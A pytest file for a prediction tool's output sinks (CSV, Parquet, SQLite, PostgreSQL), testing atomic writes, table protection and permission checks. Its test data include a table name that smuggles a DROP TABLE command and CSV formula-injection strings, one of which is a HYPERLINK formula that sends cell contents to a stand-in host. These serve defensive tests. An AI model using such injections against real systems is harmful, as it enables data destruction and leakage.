"""Predictions in files and database tables: written atomically, and existing tables are protected."""

from __future__ import annotations

import sqlite3

import polars as pl
import pytest

from estimator import verbs
from estimator.core.lock import locked
from estimator.data.sinks import sink_for
from estimator.data.sources.opener import open_source
from estimator.errors import SourceError
from estimator.store.batch_prediction import plan_source, predict_source
from estimator.store.partial_output import BatchSummary
from tests.conftest import read_example
from tests.servers import PASSWORD, postgresql, rows

FORGET = "data.sinks.SQLiteSink.forget data.sinks.PostgreSQLSink.forget"
DOUBLES = "prediction double precision, prediction_low double precision, prediction_high double precision"
ENVIRONMENT = {"PGPASSWORD": PASSWORD}


@pytest.fixture(scope="module")
def postgres():
    with postgresql() as server:
        yield server


@pytest.fixture
def predictor(store):
    return verbs.Context(store_path=str(store)).version("house_pricing_model").predictor


@pytest.fixture
def houses(tmp_path):
    read_example("boston").drop("MEDV").head(60).write_csv(tmp_path / "houses.csv")
    return tmp_path / "houses.csv"


@pytest.fixture
def numbered(houses):
    """The same rows with a number that the schema does not know."""
    pl.read_csv(houses).with_row_index("house", offset=100).write_csv(houses)
    return houses


@pytest.fixture(params=["sqlite", "postgresql"])
def address(request, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    if request.param == "sqlite":
        return "sqlite:///predictions.db"
    server = request.getfixturevalue("postgres")
    server.run('DROP SCHEMA public CASCADE; CREATE SCHEMA public; DROP SCHEMA IF EXISTS "Big" CASCADE')
    return server.address


def predict(predictor, houses, address, table="predictions", if_exists=None, **options):
    with open_source(str(houses)) as source:
        return predict_source(
            predictor, source, sink_for(address, ENVIRONMENT, table=table, if_exists=if_exists), **options
        )


def read(address, query):
    return rows(address, query, **ENVIRONMENT)


def expected(predictor):
    return predictor.predict(read_example("boston").drop("MEDV").head(60)).tolist()


def test_table_rows_are_numbered(predictor, houses, address, tmp_path):
    assert predict(predictor, houses, address).rows == 60
    written = read(address, "SELECT * FROM predictions ORDER BY row")
    assert written.columns == ["row", "prediction", "prediction_low", "prediction_high"]
    assert written["row"].to_list() == list(range(1, 61))
    assert written["prediction"].to_list() == expected(predictor)
    assert not list(tmp_path.glob(".*"))


def test_kept_column_comes_before_the_prediction(predictor, numbered, address):
    predict(predictor, numbered, address, keep=["house"])
    written = read(address, "SELECT * FROM predictions ORDER BY house")
    assert written.columns == ["house", "prediction", "prediction_low", "prediction_high"]
    assert written["prediction"].to_list() == expected(predictor)


def test_existing_table_needs_if_exists(predictor, houses, address):
    def count():
        return read(address, "SELECT count(*) AS n FROM predictions")["n"][0]

    predict(predictor, houses, address)
    with pytest.raises(SourceError, match="table predictions: exists"):
        predict(predictor, houses, address)
    predict(predictor, houses, address, if_exists="append")
    assert count() == 120
    predict(predictor, houses, address, if_exists="replace")
    assert count() == 60
    predict(predictor, houses, address, table="others", if_exists="append")
    assert read(address, "others").height == 60


def plan(predictor, houses, address, table="predictions", if_exists=None, **options):
    with open_source(str(houses)) as source:
        return plan_source(
            predictor, source, sink_for(address, ENVIRONMENT, table=table, if_exists=if_exists), **options
        )


def column_types(address):
    query = (
        "SELECT name, type FROM pragma_table_info('predictions')"
        if address.startswith("sqlite")
        else "SELECT column_name::text AS name, data_type::text AS type FROM information_schema.columns "
        "WHERE table_name = 'predictions'"
    )
    return dict(read(address, query).iter_rows())


def run_sql(request, address, statement):
    if address.startswith("sqlite"):
        with sqlite3.connect("predictions.db") as connection:
            connection.execute(statement)
    else:
        request.getfixturevalue("postgres").run(statement)


def test_plan_has_the_columns_of_the_table_and_writes_nothing(predictor, numbered, address, tmp_path):
    keep = ["house", "CRIM"]
    before = sorted(tmp_path.iterdir())
    planned = plan(predictor, numbered, address, keep=keep)
    assert (planned.sink.action, planned.n_rows) == ("create", 60)
    assert sorted(tmp_path.iterdir()) == before
    predict(predictor, numbered, address, keep=keep)
    assert dict(planned.sink.types) == column_types(address)
    with pytest.raises(SourceError, match="table predictions: exists"):
        plan(predictor, numbered, address, keep=keep)
    for if_exists in ("append", "replace"):
        assert plan(predictor, numbered, address, if_exists=if_exists, keep=keep).sink.action == if_exists
    assert read(address, "predictions").height == 60


def test_plan_of_kept_columns_has_the_types_that_are_written(predictor, houses, address, tmp_path):
    columns = {
        "flag": pl.Series([True, None] * 30),
        "day": pl.date_range(pl.date(2026, 1, 1), pl.date(2026, 3, 1), eager=True),
        "at": pl.Series([None] * 60, dtype=pl.Datetime("us")),
        "zoned": pl.Series([None] * 60, dtype=pl.Datetime("us", "UTC")),
        "small": pl.Series([1] * 60, dtype=pl.Int16),
        "large": pl.Series([1] * 60, dtype=pl.UInt32),
        "single": pl.Series([0.5] * 60, dtype=pl.Float32),
        "text": pl.Series(["a"] * 60),
    }
    pl.read_csv(houses).with_columns(**columns).write_parquet(tmp_path / "houses.parquet")
    planned = plan(predictor, tmp_path / "houses.parquet", address, keep=list(columns))
    predict(predictor, tmp_path / "houses.parquet", address, keep=list(columns))
    assert dict(planned.sink.types) == column_types(address)


@pytest.mark.parametrize(
    ("statement", "if_exists", "message"),
    [
        ("CREATE TABLE predictions (row bigint)", "append", "has no column 'prediction', 'prediction_low'"),
        (
            f"CREATE TABLE predictions (row bigint, {DOUBLES}, batch integer NOT NULL)",
            "append",
            "requires a value in 'batch'",
        ),
        ("CREATE VIEW predictions AS SELECT 1 AS row", "append", "is no table but a view"),
        ("CREATE VIEW predictions AS SELECT 1 AS row", "replace", "is no table but a view"),
    ],
)
def test_plan_rejects_what_the_run_would(predictor, houses, address, request, statement, if_exists, message):
    run_sql(request, address, statement)
    with pytest.raises(SourceError, match=message):
        plan(predictor, houses, address, if_exists=if_exists)
    with pytest.raises(SourceError):
        predict(predictor, houses, address, if_exists=if_exists)


def test_plan_rejects_other_types_and_missing_rights_in_postgresql(predictor, houses, postgres, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    postgres.run("DROP SCHEMA public CASCADE; CREATE SCHEMA public")
    postgres.run(f"CREATE TABLE predictions (row integer, {DOUBLES})")
    for act, message in ((plan, "column 'row' of type bigint, got integer"), (predict, "PostgreSQL")):
        with pytest.raises(SourceError, match=message):
            act(predictor, houses, postgres.address, if_exists="append")
    postgres.run(
        f"DROP ROLE IF EXISTS reader; CREATE ROLE reader LOGIN PASSWORD '{PASSWORD}'; DROP TABLE predictions; "
        f"CREATE TABLE predictions (row bigint, {DOUBLES}); GRANT USAGE ON SCHEMA public TO reader; "
        "GRANT SELECT ON predictions TO reader"
    )
    address = f"postgresql://reader:${{PGPASSWORD}}@{postgres.address.rpartition('@')[2]}"
    for if_exists, table, message in (
        ("append", "predictions", "may not append to it"),
        ("replace", "predictions", "may not replace it"),
        (None, "others", "may not create it"),
    ):
        with pytest.raises(SourceError, match=message):
            plan(predictor, houses, address, table=table, if_exists=if_exists)
        with pytest.raises(SourceError):
            predict(predictor, houses, address, table=table, if_exists=if_exists)
    postgres.run("GRANT INSERT ON predictions TO reader")
    for act in (plan, predict):
        with pytest.raises(SourceError, match="estimator_runs"):
            act(predictor, houses, address, if_exists="append")
    postgres.run("DROP TABLE estimator_runs")
    for act in (plan, predict):
        with pytest.raises(
            SourceError, match="needs a table estimator_runs next to it, which this user may not create"
        ):
            act(predictor, houses, address, if_exists="append")
    postgres.run("DROP OWNED BY reader; DROP ROLE reader")


def test_dry_run_shows_what_would_be_written(houses, store, tmp_path, run, monkeypatch):
    monkeypatch.chdir(tmp_path)
    command = ("predict", "--model", "house_pricing_model", "--store", store, "--input", houses, "--dry-run")
    code, shown, _ = run(*command, "--output", "sqlite:///out.db", "--table", "predictions")
    assert code == 0
    text = shown["text"]
    assert "+ create  sqlite:///out.db, table predictions: 60 rows\n" in text
    assert "prediction_low   REAL\n" in text
    assert text.strip().endswith("nothing was written")
    code, data, _ = run(*command, "--output", "out.csv", "--keep", "CRIM", "--json")
    assert (code, data["action"], data["rows"], data["written"]) == (0, "create", 60, False)
    assert data["columns"] == {
        "CRIM": "String",
        **dict.fromkeys(("prediction", "prediction_low", "prediction_high"), "Float64"),
    }
    assert [path.name for path in tmp_path.iterdir()] == ["houses.csv"]
    (tmp_path / "out.csv").mkdir()
    code, _, message = run(*command, "--output", "out.csv")
    assert (code, "out.csv: cannot be written: it is a folder" in message) == (1, True)
    bad = pl.read_csv(houses).with_columns(RM=pl.lit("many"))
    bad.write_csv(houses)
    code, _, message = run(*command, "--output", "new.csv")
    assert (code, "RM" in message) == (1, True)


def test_failed_append_keeps_table_and_parts(predictor, numbered, address, tmp_path):
    predict(predictor, numbered, address, keep=["house", "CRIM"])
    with pytest.raises(SourceError, match="RM"):
        predict(predictor, numbered, address, keep=["house", "RM"], if_exists="append")
    assert read(address, "predictions").height == 60
    assert len(list(tmp_path.glob(".predictions.*.parts"))) == 1
    assert predict(predictor, numbered, address, keep=["house", "RM"], if_exists="replace").rows_resumed == 60


@pytest.mark.parametrize("step", ["store.partial_output.write_atomic", "store.partial_output.shutil.rmtree", FORGET])
def test_append_that_ends_after_its_commit_is_not_repeated(predictor, houses, address, tmp_path, monkeypatch, step):
    def ends(*_args, **_options):
        raise KeyboardInterrupt

    predict(predictor, houses, address)
    with monkeypatch.context() as patched:
        for name in step.split():
            patched.setattr(f"estimator.{name}", ends)
        with pytest.raises(KeyboardInterrupt):
            predict(predictor, houses, address, if_exists="append")
    assert predict(predictor, houses, address, if_exists="append") == BatchSummary(60, rows_resumed=60)
    assert read(address, "predictions").height == 120
    assert not list(tmp_path.glob(".*"))
    predict(predictor, houses, address, if_exists="append")
    assert read(address, "predictions").height == 180


def test_tables_of_one_name_in_two_databases_have_nothing_in_common(predictor, houses, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    first, second = (sink_for(f"sqlite:///{name}.db", {}, table="t") for name in "ab")
    with locked(first.parts_path):
        assert predict(predictor, houses, "sqlite:///b.db", table="t").rows == 60
    assert second.parts_path == sink_for(f"sqlite:///{tmp_path}/b.db", {}, table="t").parts_path


def test_table_name_may_hold_a_schema(predictor, houses, postgres, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    postgres.run('CREATE SCHEMA IF NOT EXISTS "Big"')
    for if_exists in (None, "append"):
        predict(predictor, houses, postgres.address, table="Big.predictions", if_exists=if_exists)
    assert read(postgres.address, "Big.predictions").height == 120


def test_locked_database_times_out(predictor, houses, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("estimator.data.sinks.sqlite.LOCK_TIMEOUT_SECONDS", 0.1)
    with sqlite3.connect("predictions.db", isolation_level=None) as other:
        other.execute("BEGIN IMMEDIATE")
        with pytest.raises(SourceError, match="locked"):
            predict(predictor, houses, "sqlite:///predictions.db")
        other.execute("ROLLBACK")
    assert predict(predictor, houses, "sqlite:///predictions.db").rows_resumed == 60


@pytest.mark.parametrize(
    ("output", "options", "message"),
    [
        ("sqlite:///predictions.db", {"table": None}, "expected the name of a table"),
        ("sqlite:///predictions.db", {"table": 'a"; DROP TABLE b; --'}, "expected the name of a table"),
        ("sqlite:///nowhere/predictions.db", {}, "cannot be written"),
        ("mysql://me@host/db", {}, "cannot be written to mysql://"),
        ("postgresql://me:secret@host/db", {}, "contains a password"),
        ("postgresql://me@127.0.0.1:1/db", {}, "cannot connect"),
        ("predictions.csv", {}, "is a file"),
        ("predictions.csv", {"table": None, "if_exists": "append"}, "is a file"),
        ("predictions.xlsx", {"table": None}, "expected a file that ends in .parquet or .csv"),
        ("nowhere/predictions.csv", {"table": None}, "the folder nowhere does not exist"),
        ("houses.csv", {"table": None}, "is also the input"),
        ("predictions.csv", {"table": None, "keep": ["home"]}, "no column 'home' to keep"),
    ],
)
def test_unwritable_output_fails_before_reading(predictor, houses, tmp_path, monkeypatch, output, options, message):
    monkeypatch.chdir(tmp_path)
    before = sorted(path.name for path in tmp_path.iterdir())
    with pytest.raises(SourceError, match=message):
        predict(predictor, "houses.csv", output, **options)
    assert sorted(path.name for path in tmp_path.iterdir() if path.suffix != ".parts") == before


def test_kept_column_cannot_clash_with_predictions(predictor, numbered, tmp_path):
    table = pl.read_csv(numbered).rename({"house": "prediction"})
    table.write_csv(numbered)
    with pytest.raises(SourceError, match="cannot keep 'prediction'"):
        predict(predictor, numbered, str(tmp_path / "predictions.csv"), table=None, keep=["prediction"])


FORMULAS = ["=1+1", "+A1", "-2+A1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1", '=HYPERLINK("http://a.test/"&A1)']
PLAIN = ["-5", "+3.5", "-1e-5", "-.5", "a=b", "", " x", "'=1", "x-y"]


def test_formulas_in_a_csv_are_quoted_on_request(houses, store, tmp_path, run):
    values = [*FORMULAS, *PLAIN]
    table = pl.read_csv(houses).head(len(values))
    numbers = [-float(index) for index in range(len(values))]
    table.with_columns(pl.Series("=note", values), pl.Series("n", numbers)).write_csv(houses)
    model = ("--model", "house_pricing_model", "--store", store, "--keep", "=note", "--keep", "n")
    command = ("predict", *model, "--input", houses, "--output", tmp_path / "out.csv")
    assert run(*command)[0] == 0
    as_they_are = pl.read_csv(tmp_path / "out.csv", infer_schema=False)
    assert run(*command, "--quote-formulas")[0] == 0
    quoted = pl.read_csv(tmp_path / "out.csv", infer_schema=False)
    kept = as_they_are["=note"].to_list()
    assert [text for text in kept if text] == [text for text in values if text]
    assert quoted["'=note"].to_list() == [f"'{text}" if text in FORMULAS else text for text in kept]
    assert quoted.drop("'=note").equals(as_they_are.drop("=note"))


def test_only_a_csv_has_formulas_to_quote(houses, store, tmp_path, run):
    command = ("predict", "--model", "house_pricing_model", "--store", store, "--input", houses, "--quote-formulas")
    for output in (tmp_path / "out.parquet", f"sqlite:///{tmp_path}/out.db"):
        code, _, message = run(*command, "--output", output)
        assert (code, "--quote-formulas is for a .csv file" in message) == (1, True)
